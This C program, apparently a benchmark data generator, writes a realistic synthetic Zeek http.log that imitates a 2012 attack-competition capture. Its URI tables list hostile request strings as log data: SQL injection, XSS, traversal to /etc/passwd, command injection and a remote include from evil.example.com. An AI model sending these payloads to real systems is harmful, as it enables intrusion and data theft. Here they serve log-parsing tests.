/*
** zeekgen — writes a realistic, deterministic Bro 2.x http.log (Zeek TSV).
**
**   bench/data/zeekgen -n 2000000 [-s SEED] [-o FILE] [--no-header]
**
** The 27-column layout of Bro 2.2-2.4 (SPEC's schema='http'), with the full
** header (#separator .. #types) and a #close line; --no-header writes the
** data lines only (as include_meta=F would). Same -n and -s -> the same bytes,
** on any machine: only integer arithmetic and our own PRNG decide the output.
**
** The traffic imitates the analyst's notebook (MACCDC-like capture of
** 2012-03-16): ~63% DirBuster from 192.168.203.63, Skipfish, Nmap NSE, Nikto,
** sqlmap, a browser-UA scanner, a crawler and ordinary browsers; ~84% 404;
** a peak hour at 18:00 UTC; timestamps from 12:30 UTC over ~11 hours, roughly
** increasing (transactions end out of order by up to 0.4 s), 6 decimals.
** Values are escaped as Zeek's ASCII writer does: separator, non-printable
** and non-ASCII bytes -> \xNN, backslash -> \\, a value equal to a marker
** gets its first byte escaped, "," inside a set element -> \x2c, empty
** strings and sets -> (empty), absent values -> -.
*/
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

/* ---- PRNG: splitmix64 ------------------------------------------------- */
static uint64_t rng_state;

static uint64_t rng_next(void){
  uint64_t z = (rng_state += 0x9E3779B97F4A7C15ULL);
  z = (z ^ (z >> 30)) * 0xBF58476D1CE4E5B9ULL;
  z = (z ^ (z >> 27)) * 0x94D049BB133111EBULL;
  return z ^ (z >> 31);
}

/* Uniform in [0, n). */
static uint32_t rnd(uint32_t n){
  return (uint32_t)(((rng_next() >> 32) * (uint64_t)n) >> 32);
}

/* True with probability permille/1000. */
static int chance(unsigned permille){ return rnd(1000) < permille; }

#define PICK(arr) ((arr)[rnd(sizeof(arr) / sizeof((arr)[0]))])
#define COUNT(arr) (sizeof(arr) / sizeof((arr)[0]))

/* ---- output buffer ------------------------------------------------------ */
static FILE *out;
static char obuf[1 << 20];
static size_t olen;

static void flush_out(void){
  if(olen && fwrite(obuf, 1, olen, out) != olen){
    perror("zeekgen: write");
    exit(1);
  }
  olen = 0;
}
static void put_c(char c){ obuf[olen++] = c; }
static void put_n(const char *s, size_t n){ memcpy(obuf + olen, s, n); olen += n; }
static void put_s(const char *s){ put_n(s, strlen(s)); }
static void put_u(uint64_t v){
  char tmp[24];
  int i = 0;
  do { tmp[i++] = (char)('0' + v % 10); v /= 10; } while(v);
  while(i) put_c(tmp[--i]);
}
static void tab(void){ put_c('\t'); }

/* One byte as Zeek's writer would: printable ASCII as is, else \xNN. */
static void put_escaped_byte(unsigned char b, int in_set){
  static const char hex[] = "0123456789abcdef";
  if(b == '\\'){ put_c('\\'); put_c('\\'); return; }
  if(b < 0x20 || b >= 0x7f || (in_set && b == ',')){
    put_c('\\'); put_c('x'); put_c(hex[b >> 4]); put_c(hex[b & 15]);
    return;
  }
  put_c((char)b);
}

/* A string value of n bytes; NULL -> unset. */
static void put_value(const char *s, size_t n, int in_set){
  if(!s){ put_c('-'); return; }
  if(n == 0){ put_s("(empty)"); return; }
  size_t i = 0;
  /* A value spelled like a marker gets its first byte escaped. */
  if((n == 1 && s[0] == '-') || (n == 7 && memcmp(s, "(empty)", 7) == 0)){
    put_c('\\'); put_c('x');
    put_s(s[0] == '-' ? "2d" : "28");
    i = 1;
  }
  for(; i < n; i++) put_escaped_byte((unsigned char)s[i], in_set);
}
static void put_str(const char *s){ put_value(s, s ? strlen(s) : 0, 0); }

/* ---- raw value builder (bytes may include NUL) ------------------------ */
typedef struct { char b[2048]; size_t n; } Buf;
static void b_reset(Buf *x){ x->n = 0; }
static void b_add(Buf *x, const char *s, size_t n){
  if(x->n + n > sizeof x->b) n = sizeof x->b - x->n;
  memcpy(x->b + x->n, s, n); x->n += n;
}
static void b_s(Buf *x, const char *s){ b_add(x, s, strlen(s)); }
static void b_c(Buf *x, char c){ b_add(x, &c, 1); }
static void b_u(Buf *x, uint64_t v){
  char tmp[24];
  int n = snprintf(tmp, sizeof tmp, "%llu", (unsigned long long)v);
  b_add(x, tmp, (size_t)n);
}

/* ---- vocabularies -------------------------------------------------------- */
static const char *const words[] = {
  "admin", "administrator", "backup", "backups", "images", "img", "css", "js",
  "scripts", "cgi-bin", "include", "includes", "lib", "library", "uploads",
  "upload", "files", "download", "downloads", "docs", "doc", "data", "db",
  "database", "sql", "mysql", "phpmyadmin", "pma", "test", "tests", "temp",
  "tmp", "old", "new", "dev", "beta", "staging", "private", "secret", "hidden",
  "config", "conf", "settings", "setup", "install", "login", "logon", "logout",
  "register", "signup", "user", "users", "account", "accounts", "profile",
  "members", "member", "forum", "forums", "blog", "news", "archive", "archives",
  "search", "help", "faq", "about", "contact", "support", "shop", "cart",
  "checkout", "order", "orders", "products", "product", "catalog", "store",
  "web", "www", "site", "portal", "home", "index", "default", "main", "page",
  "pages", "content", "media", "video", "audio", "static", "assets", "themes",
  "templates", "skins", "plugins", "modules", "components", "api", "rest",
  "services", "webservice", "xml", "rss", "feed", "mail", "webmail", "email",
  "stats", "statistics", "logs", "log", "reports", "report", "manager",
  "console", "panel", "cpanel", "control", "system", "sys", "server", "status",
  "info", "phpinfo", "exchange", "owa", "intranet", "extranet", "partners",
  "clients", "client", "customer", "customers", "employees", "hr", "finance",
  "sales", "marketing", "press", "jobs", "careers", "2010", "2011", "2012",
  "new_folder", "copy_of_index", "Thumbs", "WEB-INF", "META-INF", "_vti_bin",
  "_vti_pvt", "aspnet_client", "App_Data", "bin", "etc", "var", "usr", "home2",
};
static const char *const exts[] = {
  "", "", "", "/", ".php", ".php", ".html", ".htm", ".asp", ".aspx", ".jsp",
  ".txt", ".bak", ".old", ".cgi", ".pl", ".inc", ".zip", ".tar.gz", ".xml",
};
static const char *const page_ext[] = { ".php", ".html", ".asp", ".jsp" };

/* Attack URIs; {W} word, {N} number, {Z} a NUL byte, {X} a random byte
** 0x80-0xff, {H} hex id. Zeek logs URIs percent-decoded once, so these are
** the decoded bytes: raw quotes, '#', tabs, backslashes, NULs, high bytes. */
static const char *const attack_uris[] = {
  "/{W}.php?id=1' OR '1'='1",
  "/{W}.php?id=1 UNION ALL SELECT NULL,NULL,NULL-- ",
  "/{W}.php?id={N}\" AND \"1\"=\"1",
  "/{W}/index.php?q=<script>alert(document.cookie)</script>",
  "/search.php?q=\"><script>alert({N})</script>",
  "/{W}.asp?name=<img src=x onerror=alert('xss')>",
  "/../../../../../../etc/passwd",
  "/{W}.php?page=../../../../../../../../etc/passwd{Z}",
  "/{W}.php?file=..\\..\\..\\..\\boot.ini",
  "/scripts/..\xc1\x9c../winnt/system32/cmd.exe?/c+dir",
  "/\xc0\xae\xc0\xae/\xc0\xae\xc0\xae/etc/passwd",
  "/{W}.php?cmd=;cat /etc/passwd",
  "/{W}.php?include=http://evil.example.com/shell.txt?",
  "/{W}#{W}",
  "/{W}.html#top\"",
  "/{W}/\tindex.php",
  "/{W}.php?a=\x01\x02{X}",
  "/cgi-bin/{W}.cgi?x=|id|",
  "/{W}.jsp?q=%27%22%3E",
  "/{W}/%2e%2e/%2e%2e/{W}",
};
static const char *const skipfish_uris[] = {
  "/sfi{N}{E}",
  "/{W}/sfi{N}.old",
  "/{W}.{N}",
  "/{W}~",
  "/{W}/'\"`",
  "/?_test1=ccddeeeimmnossstwwxy.:\\\\\\&_test2=acdepsstw%5C%5C&_test3=bhhin",
  "/{W}.php?{W}=<sfi{N}v{N}>",
  "/{W}/\"><sfi{N}v{N}>",
  "/{W}/.htaccess",
  "/{W}/.svn/entries",
  "/{W}/-",
  "/{W}.php?id=-{N}",
  "/{W}/?{W}=sfish'\"",
  "/{W}{E}",
  "/{W}/{W}{E}",
};
static const char *const nmap_uris[] = {
  "/", "/", "/nmaplowercheck{N}", "/HNAP1", "/evox/about", "/robots.txt",
  "/favicon.ico", "/sdk", "/.git/HEAD", "/{W}/", "/cgi-bin/{W}.cgi",
  "/server-status", "/manager/html",
};
static const char *const nikto_uris[] = {
  "/{W}/", "/{W}.php", "/cgi-bin/{W}", "/{W}/{W}.cgi", "/phpMyAdmin/",
  "/?=PHPB8B5F2A0-3C92-11d3-A3A9-4C7B08C10000", "/{W}/index.php?path=../../../etc/passwd",
  "/<script>alert('Vulnerable')</script>.{W}", "/scripts/..\xc0\xaf../winnt/system32/cmd.exe",
  "/{W}.bak", "/{W}.inc", "/{W}/admin.php", "/iisadmpwd/aexp2.htr", "/{W}/test.jsp",
  "/{W}.pl?\"><script>", "/(empty)",
};
static const char *const sqlmap_uris[] = {
  "/{W}.php?id={N}",
  "/{W}.php?id={N} AND {N}={N}",
  "/{W}.php?id={N}' AND SLEEP(5) AND 'a'='a",
  "/{W}.php?id=-{N} UNION ALL SELECT NULL,CONCAT(0x716b6a7071,IFNULL(CAST(user() AS CHAR),0x20),0x7170707a71),NULL#",
  "/{W}.php?id={N});WAITFOR DELAY '0:0:5'--",
  "/{W}.php?id={N}%' AND {N}={N} AND '%'='",
  "/{W}.php?id=({N})",
};
static const char *const normal_uris[] = {
  "/", "/", "/index.php", "/index.html", "/favicon.ico", "/robots.txt",
  "/images/{W}.png", "/images/{W}.gif", "/img/{W}.jpg", "/css/{W}.css",
  "/js/jquery.min.js", "/js/{W}.js", "/{W}/", "/{W}{P}", "/{W}/{W}{P}",
  "/products.php?id={N}", "/news/2012/03/{W}-{N}.html", "/search.php?q={W}+{W}",
  "/login.php", "/{W}/index.php?page={N}&sort=asc",
};

static const char *const ua_dirbuster =
  "DirBuster-0.12 (http://www.owasp.org/index.php/Category:OWASP_DirBuster_Project)";
static const char *const ua_skipfish = "Mozilla/5.0 SF/2.03b";
static const char *const ua_nmap =
  "Mozilla/5.0 (compatible; Nmap Scripting Engine; http://nmap.org/book/nse.html)";
static const char *const ua_sqlmap = "sqlmap/1.0-dev-nongit-20120315 (http://sqlmap.org)";
static const char *const ua_ie8xp = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)";
static const char *const ua_ie8vista = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.0)";
static const char *const ua_ie9 = "Mozilla/4.0 (compatible; MSIE 9.0; Windows NT 6.1)";
static const char *const browser_uas[] = {
  "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)",
  "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 5.1; Trident/4.0)",
  "Mozilla/4.0 (compatible; MSIE 7.0; Windows NT 5.1)",
  "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:10.0.2) Gecko/20100101 Firefox/10.0.2",
  "Mozilla/5.0 (Windows NT 6.1; WOW64; rv:10.0.2) Gecko/20100101 Firefox/10.0.2",
  "Mozilla/5.0 (X11; Ubuntu; Linux i686; rv:11.0) Gecko/20100101 Firefox/11.0",
  "Mozilla/5.0 (Windows NT 6.1) AppleWebKit/535.11 (KHTML, like Gecko) Chrome/17.0.963.79 Safari/535.11",
  "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_7_3) AppleWebKit/534.53.11 (KHTML, like Gecko) Version/5.1.3 Safari/534.53.10",
  "Opera/9.80 (Windows NT 6.1; U; en) Presto/2.10.229 Version/11.61",
  "Microsoft-CryptoAPI/6.1",
  "Windows-Update-Agent",
  "Java/1.6.0_26",
  "Mozilla/5.0 (compatible; \tTabbed/1.0)",
  "Mozilla/5.0 (Windows; U; Windows NT 5.1; de-DE\\x) Gecko",
  "",
  "-",
};
static const char *const hostnames[] = {
  "www.maccdc.local", "intranet.maccdc.local", "mail.maccdc.local", "shop.example.com",
};

/* Web servers: address, port. */
static const char *const servers[] = {
  "192.168.229.251", "192.168.229.101", "192.168.27.103", "192.168.23.202",
  "192.168.27.102", "192.168.26.100", "192.168.25.253", "192.168.28.100",
};

/* ---- status tables -------------------------------------------------------- */
typedef struct { unsigned code; const char *msg; } Status;
static const Status status_by_code[] = {
  {0, NULL}, {200, "OK"}, {201, "Created"}, {204, "No Content"}, {206, "Partial Content"},
  {207, "Multi-Status"}, {301, "Moved Permanently"}, {302, "Found"}, {303, "See Other"},
  {304, "Not Modified"}, {400, "Bad Request"}, {401, "Unauthorized"}, {403, "Forbidden"},
  {404, "Not Found"}, {405, "Method Not Allowed"}, {406, "Not Acceptable"},
  {411, "Length Required"}, {413, "Request Entity Too Large"},
  {414, "Request-URI Too Long"}, {417, "Expectation Failed"},
  {500, "Internal Server Error"}, {501, "Not Implemented"}, {502, "Bad Gateway"},
  {503, "Service Unavailable"}, {505, "HTTP Version Not Supported"},
};
/* A status distribution: {code, weight in 1/10000}, ending with {0,0}; code 0 = unset. */
typedef struct { unsigned code, w; } SW;
static const SW st_dirbuster[] = {{404, 9780}, {200, 50}, {403, 30}, {301, 15}, {302, 5}, {0, 120}, {0, 0}};
static const SW st_ie_scan[]   = {{404, 8500}, {200, 800}, {400, 300}, {403, 150}, {500, 50},
                                  {0, 150}, {414, 10}, {413, 10}, {411, 5}, {405, 25}, {0, 0}};
static const SW st_nmap[]      = {{404, 7000}, {200, 1500}, {400, 500}, {405, 300}, {501, 300}, {0, 400}, {0, 0}};
static const SW st_skipfish[]  = {{404, 9000}, {200, 500}, {400, 250}, {403, 80}, {500, 60},
                                  {501, 50}, {414, 20}, {405, 20}, {0, 20}, {0, 0}};
static const SW st_crawler[]   = {{200, 6000}, {404, 2500}, {303, 550}, {304, 250}, {302, 200},
                                  {206, 80}, {301, 30}, {401, 100}, {0, 280}, {503, 10}, {0, 0}};
static const SW st_nikto[]     = {{404, 8000}, {200, 800}, {400, 400}, {403, 400}, {301, 100},
                                  {500, 100}, {417, 100}, {413, 30}, {411, 20}, {505, 20},
                                  {406, 10}, {0, 20}, {0, 0}};
static const SW st_sqlmap[]    = {{200, 7500}, {500, 1500}, {404, 500}, {302, 400}, {0, 100}, {0, 0}};
static const SW st_browser[]   = {{200, 7200}, {304, 800}, {302, 400}, {404, 450}, {301, 150},
                                  {206, 200}, {401, 200}, {303, 100}, {503, 200}, {201, 30},
                                  {204, 10}, {207, 10}, {502, 10}, {403, 40}, {0, 200}, {0, 0}};

static unsigned pick_status(const SW *t){
  unsigned total = 0;
  for(const SW *p = t; p->w; p++) total += p->w;
  unsigned r = rnd(total);
  for(const SW *p = t; p->w; p++){
    if(r < p->w) return p->code;
    r -= p->w;
  }
  return t[0].code;
}
static const char *status_msg(unsigned code){
  for(size_t i = 0; i < COUNT(status_by_code); i++)
    if(status_by_code[i].code == code) return status_by_code[i].msg;
  return "Unknown";
}

/* ---- actors and the hourly mix ----------------------------------------- */
enum { DIRBUSTER, IE_SCAN, NMAP, SKIPFISH, CRAWLER, NIKTO, SQLMAP, BROWSER, N_ACTORS };

/* Rows per hour per actor, in hundreds, for the notebook's 2M-row capture.
** Hour 12 starts at 12:30, hour 23 ends at 23:30 UTC. The shape: Nmap and
** Skipfish early, a crawler (mostly 200s) at 15-16h, DirBuster's peak at 18h,
** Nikto at 20h, only browsers (200s) after 21h. */
#define FIRST_HOUR 12
#define N_HOURS 12
static const unsigned mix[N_HOURS][N_ACTORS] = {
  /*          DirB  IEsc Nmap Skip Crawl Nikto Sqlm Brow */
  /* 12 */ {     0,    0,  40,    0,    0,    0,   0,  24},
  /* 13 */ {     0,    0,  60,  600,    0,    0,   0, 145},
  /* 14 */ {     0,    0,   0,  250,    0,    0, 100,  48},
  /* 15 */ {     0,    0,   0,    0,  120,    0,   0,  82},
  /* 16 */ {     0,    0,   0,    0, 1300,    0,   0, 146},
  /* 17 */ {  1500,  400,   0,  500,  180,    0,   0, 108},
  /* 18 */ {  9000,  800,   0,  400,    0,    0,   0, 189},
  /* 19 */ {  1500,  600,   0,    0,    0,    0,  60, 121},
  /* 20 */ {   320,  310,   0,  210,    0,  290,   0, 119},
  /* 21 */ {     0,    0,   0,    0,    0,    0,   0,  27},
  /* 22 */ {     0,    0,   0,    0,    0,    0,   0,  10},
  /* 23 */ {     0,    0,   0,    0,    0,    0,   0,   3},
};
#define T0 1331901000ULL  /* 2012-03-16 12:30:00 UTC */

/* A connection in progress, so keep-alive rows share uid and port. */
typedef struct {
  char uid[20];
  unsigned port, depth, server;
} Conn;
static Conn conns[N_ACTORS];

static void make_id(char *dst, char first){
  static const char b62[] =
    "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz";
  int n = 17 + (int)rnd(2);
  dst[0] = first;
  for(int i = 1; i < n; i++) dst[i] = b62[rnd(62)];
  dst[n] = 0;
}

/* Expands a URI template into b. */
static void expand(Buf *b, const char *t){
  for(const char *p = t; *p; p++){
    if(p[0] == '{' && p[1] && p[2] == '}'){
      switch(p[1]){
        case 'W': b_s(b, PICK(words)); break;
        case 'N': b_u(b, rnd(100000)); break;
        case 'E': b_s(b, PICK(exts)); break;
        case 'P': b_s(b, PICK(page_ext)); break;
        case 'Z': b_c(b, 0); break;
        case 'X': b_c(b, (char)(0x80 + rnd(128))); break;
        default: b_add(b, p, 3); break;
      }
      p += 2;
    } else {
      b_c(b, *p);
    }
  }
}

static const char *browser_ip(void){
  /* ~120 hosts, a few far busier than the rest. */
  static char ip[20];
  unsigned r = rnd(1000), net, host;
  if(r < 300){ net = 202; host = 30 + rnd(6); }
  else if(r < 600){ net = 203; host = 10 + rnd(40); }
  else { net = 204 + rnd(2); host = 2 + rnd(40); }
  snprintf(ip, sizeof ip, "192.168.%u.%u", net, host);
  return ip;
}

static void put_fuids(unsigned n){
  char id[20];
  for(unsigned i = 0; i < n; i++){
    if(i) put_c(',');
    make_id(id, 'F');
    put_s(id);
  }
}

static void put_mimes(const char *mime, unsigned n){
  for(unsigned i = 0; i < n; i++){
    if(i) put_c(',');
    put_s(mime);
  }
}

static void write_row(uint64_t ts_us, int actor){
  Buf uri, ua;
  const char *ua_s = NULL, *method = "GET", *orig_h, *referrer = NULL, *host;
  const SW *st;
  unsigned keepalive, server, resp_p = 80;
  int attacky = 0;

  b_reset(&uri);
  b_reset(&ua);
  switch(actor){
    case DIRBUSTER:
      orig_h = "192.168.203.63"; ua_s = ua_dirbuster; st = st_dirbuster; keepalive = 300;
      method = chance(250) ? "HEAD" : "GET";
      b_c(&uri, '/');
      if(chance(600)){ b_s(&uri, PICK(words)); b_c(&uri, '/'); }
      if(chance(300)){ b_s(&uri, PICK(words)); b_c(&uri, '/'); }
      b_s(&uri, PICK(words));
      if(chance(200)) b_u(&uri, rnd(100));
      b_s(&uri, PICK(exts));
      break;
    case IE_SCAN:
      orig_h = "192.168.202.79"; ua_s = ua_ie8xp; st = st_ie_scan; keepalive = 200;
      method = chance(150) ? "POST" : "GET";
      if(chance(450)){ expand(&uri, PICK(attack_uris)); attacky = 1; }
      else expand(&uri, PICK(normal_uris));
      break;
    case NMAP:
      orig_h = "192.168.202.79"; ua_s = ua_nmap; st = st_nmap; keepalive = 0;
      { static const char *const m[] = {"GET", "GET", "GET", "HEAD", "OPTIONS", "PROPFIND", "POST"};
        method = PICK(m); }
      expand(&uri, PICK(nmap_uris));
      break;
    case SKIPFISH:
      orig_h = "192.168.202.102"; ua_s = ua_skipfish; st = st_skipfish; keepalive = 400;
      { static const char *const m[] = {"GET", "GET", "GET", "GET", "GET", "GET", "GET",
                                        "GET", "HEAD", "POST", "PUT", "OPTIONS", "TRACE"};
        method = PICK(m); }
      expand(&uri, PICK(skipfish_uris));
      attacky = chance(300);
      break;
    case CRAWLER:
      orig_h = "192.168.202.110"; ua_s = chance(550) ? ua_ie8vista : ua_ie9; st = st_crawler;
      keepalive = 600;
      method = chance(40) ? "POST" : "GET";
      expand(&uri, PICK(normal_uris));
      break;
    case NIKTO:
      orig_h = "192.168.202.138"; st = st_nikto; keepalive = 100;
      { static const char *const m[] = {"GET", "GET", "GET", "GET", "HEAD", "POST", "TRACE", "SEARCH"};
        method = PICK(m); }
      b_s(&ua, "Mozilla/5.00 (Nikto/2.1.4) (Evasions:None) (Test:");
      { char t[16]; snprintf(t, sizeof t, "%06u)", 1 + rnd(6500)); b_s(&ua, t); }
      expand(&uri, PICK(nikto_uris));
      attacky = 1;
      break;
    case SQLMAP:
      orig_h = "192.168.202.138"; ua_s = ua_sqlmap; st = st_sqlmap; keepalive = 500;
      method = chance(100) ? "POST" : "GET";
      expand(&uri, PICK(sqlmap_uris));
      attacky = 2;
      break;
    default:
      orig_h = browser_ip(); ua_s = PICK(browser_uas); st = st_browser; keepalive = 500;
      method = chance(60) ? "POST" : "GET";
      if(chance(5)) expand(&uri, PICK(attack_uris));
      else expand(&uri, PICK(normal_uris));
      break;
  }
  if(ua_s) b_s(&ua, ua_s);

  /* Connection: reuse (keep-alive) or open a new one. */
  Conn *c = &conns[actor];
  if(c->depth == 0 || c->depth >= 100 || !chance(keepalive)){
    make_id(c->uid, 'C');
    c->port = c->port ? c->port + 1 + rnd(3) : 1025 + rnd(60000);
    if(c->port > 65535) c->port = 1025 + rnd(100);
    c->depth = 1;
    c->server = actor == DIRBUSTER ? 0 : actor == SKIPFISH ? rnd(2) : rnd((uint32_t)COUNT(servers));
  } else {
    c->depth++;
  }
  server = c->server;
  if(server == 4) resp_p = 8080;

  unsigned code = pick_status(st);
  int ua_unset = actor == BROWSER && strcmp(ua_s, "-") == 0;

  host = servers[server];
  if(actor == BROWSER || actor == CRAWLER){
    if(chance(400)) host = hostnames[server % COUNT(hostnames)];
    if(chance(20)) host = NULL;              /* HTTP/1.0 without Host */
    if(chance(500)) referrer = "r";          /* filled below */
  } else if(actor == SKIPFISH && chance(800)) {
    referrer = "r";
  }

  uint64_t req_len = 0, resp_len = 0;
  if(strcmp(method, "POST") == 0 || strcmp(method, "PUT") == 0) req_len = 10 + rnd(2000);
  if(code == 404) resp_len = 200 + uri.n + (server * 37) % 300;
  else if(code == 200 || code == 206 || code == 500) resp_len = strcmp(method, "HEAD") ? 300 + rnd(40000) : 0;
  else if(code == 0 || code == 304 || code == 204) resp_len = 0;
  else resp_len = 150 + rnd(500);

  /* ts */
  put_u(ts_us / 1000000); put_c('.');
  { char tmp[8]; snprintf(tmp, sizeof tmp, "%06u", (unsigned)(ts_us % 1000000)); put_s(tmp); }
  tab(); put_s(c->uid);
  tab(); put_s(orig_h);
  tab(); put_u(c->port);
  tab(); put_s(servers[server]);
  tab(); put_u(resp_p);
  tab(); put_u(c->depth);
  tab(); put_s(method);
  tab(); put_str(host);
  tab(); put_value(uri.b, uri.n, 0);
  tab();
  if(referrer){
    Buf r; b_reset(&r);
    if(chance(5)) b_s(&r, "-");              /* a literal "-" referrer: \x2d */
    else { b_s(&r, "http://"); b_s(&r, host ? host : servers[server]); b_s(&r, "/"); if(chance(500)) b_s(&r, PICK(words)); }
    put_value(r.b, r.n, 0);
  } else put_c('-');
  tab();
  if(ua_unset) put_c('-'); else put_value(ua.b, ua.n, 0);
  tab(); put_u(req_len);
  tab(); put_u(resp_len);
  tab(); if(code) put_u(code); else put_c('-');
  tab(); if(code) put_s(status_msg(code)); else put_c('-');
  /* info_code, info_msg */
  if(req_len && chance(300)){ tab(); put_s("100"); tab(); put_s("Continue"); }
  else { tab(); put_c('-'); tab(); put_c('-'); }
  /* filename */
  tab(); if(code == 200 && chance(3)) put_s("report.pdf"); else put_c('-');
  /* tags: set[enum] */
  tab();
  if(attacky == 2 && chance(700)) put_s(req_len ? "HTTP::URI_SQLI,HTTP::POST_SQLI" : "HTTP::URI_SQLI");
  else if(attacky == 1 && chance(100)) put_s("HTTP::URI_SQLI");
  else put_s("(empty)");
  /* username, password */
  if(code == 401 || (code == 200 && actor == BROWSER && chance(10))){
    static const char *const users[] = {"admin", "jsmith", "guest", "root"};
    tab(); put_s(PICK(users));
    tab(); if(chance(300)) put_s("password123"); else put_c('-');
  } else { tab(); put_c('-'); tab(); put_c('-'); }
  /* proxied: set[string] */
  tab();
  if(actor == BROWSER && chance(10)){
    put_value("X-FORWARDED-FOR -> 10.10.10.5", 29, 1);
    if(chance(500)){ put_c(','); put_value("VIA -> 1.1 squid, 1.0 proxy", 27, 1); }
  } else put_c('-');
  /* orig_fuids, orig_mime_types */
  if(req_len){ tab(); put_fuids(1); tab(); put_s(chance(800) ? "text/plain" : "application/xml"); }
  else { tab(); put_c('-'); tab(); put_c('-'); }
  /* resp_fuids, resp_mime_types */
  if(resp_len){
    unsigned n = code == 206 ? 2 : 1;
    const char *mime = "text/html";
    if(code == 200 && (actor == BROWSER || actor == CRAWLER)){
      static const char *const mimes[] = {"text/html", "text/html", "image/png", "image/gif",
                                          "image/jpeg", "text/plain", "application/x-shockwave-flash",
                                          "application/pdf", "application/xml"};
      mime = PICK(mimes);
    }
    tab(); put_fuids(n); tab(); put_mimes(mime, n);
  } else { tab(); put_c('-'); tab(); put_c('-'); }
  put_c('\n');
  if(olen > sizeof obuf - 16384) flush_out();
}

static const char *const field_names =
  "ts\tuid\tid.orig_h\tid.orig_p\tid.resp_h\tid.resp_p\ttrans_depth\tmethod\thost\turi\t"
  "referrer\tuser_agent\trequest_body_len\tresponse_body_len\tstatus_code\tstatus_msg\t"
  "info_code\tinfo_msg\tfilename\ttags\tusername\tpassword\tproxied\torig_fuids\t"
  "orig_mime_types\tresp_fuids\tresp_mime_types";
static const char *const field_types =
  "time\tstring\taddr\tport\taddr\tport\tcount\tstring\tstring\tstring\tstring\tstring\t"
  "count\tcount\tcount\tstring\tcount\tstring\tstring\tset[enum]\tstring\tstring\t"
  "set[string]\tvector[string]\tvector[string]\tvector[string]\tvector[string]";

static void usage(void){
  fprintf(stderr, "usage: zeekgen -n ROWS [-s SEED] [-o FILE] [--no-header]\n");
  exit(2);
}

int main(int argc, char **argv){
  uint64_t rows = 0, seed = 1;
  const char *path = NULL;
  int header = 1;
  for(int i = 1; i < argc; i++){
    if(!strcmp(argv[i], "-n") && i + 1 < argc) rows = strtoull(argv[++i], NULL, 10);
    else if(!strcmp(argv[i], "-s") && i + 1 < argc) seed = strtoull(argv[++i], NULL, 10);
    else if(!strcmp(argv[i], "-o") && i + 1 < argc) path = argv[++i];
    else if(!strcmp(argv[i], "--no-header")) header = 0;
    else usage();
  }
  if(rows == 0 && !(argc > 1)) usage();
  out = path ? fopen(path, "wb") : stdout;
  if(!out){ perror(path); return 1; }
  rng_state = seed * 0x2545F4914F6CDD1DULL + 12345;

  unsigned hour_w[N_HOURS], cum[N_HOURS + 1];
  cum[0] = 0;
  for(int h = 0; h < N_HOURS; h++){
    hour_w[h] = 0;
    for(int a = 0; a < N_ACTORS; a++) hour_w[h] += mix[h][a];
    cum[h + 1] = cum[h] + hour_w[h];
  }
  const uint64_t total = cum[N_HOURS];

  if(header){
    put_s("#separator \\x09\n#set_separator\t,\n#empty_field\t(empty)\n#unset_field\t-\n"
          "#path\thttp\n#open\t2012-03-16-08-30-00\n#fields\t");
    put_s(field_names);
    put_s("\n#types\t");
    put_s(field_types);
    put_c('\n');
  }
  int h = 0;
  for(uint64_t i = 0; i < rows; i++){
    /* Row i sits at weight position p = (i + 0.5) * total / rows, as the
    ** fraction p2 / (2 * rows); its hour is where p falls in cum[]. */
    unsigned __int128 p2 = (unsigned __int128)(2 * i + 1) * total;
    unsigned __int128 den = (unsigned __int128)2 * rows;
    while(h < N_HOURS - 1 && p2 >= (unsigned __int128)cum[h + 1] * den) h++;
    uint64_t start = h == 0 ? T0 : T0 + 1800 + (uint64_t)(h - 1) * 3600;
    uint64_t dur = (h == 0 || h == N_HOURS - 1) ? 1800 : 3600;
    unsigned __int128 in = p2 - (unsigned __int128)cum[h] * den;
    uint64_t off_us = (uint64_t)(in * dur * 1000000 / ((unsigned __int128)hour_w[h] * den));
    uint64_t ts_us = start * 1000000 + off_us + rnd(400000);
    if(ts_us >= (start + dur) * 1000000) ts_us = (start + dur) * 1000000 - 1 - rnd(1000);

    unsigned r = rnd(hour_w[h]), a = 0;
    while(r >= mix[h][a]){ r -= mix[h][a]; a++; }
    write_row(ts_us, (int)a);
  }
  if(header) put_s("#close\t2012-03-16-19-30-02\n");
  flush_out();
  if(path && fclose(out) != 0){ perror(path); return 1; }
  return 0;
}
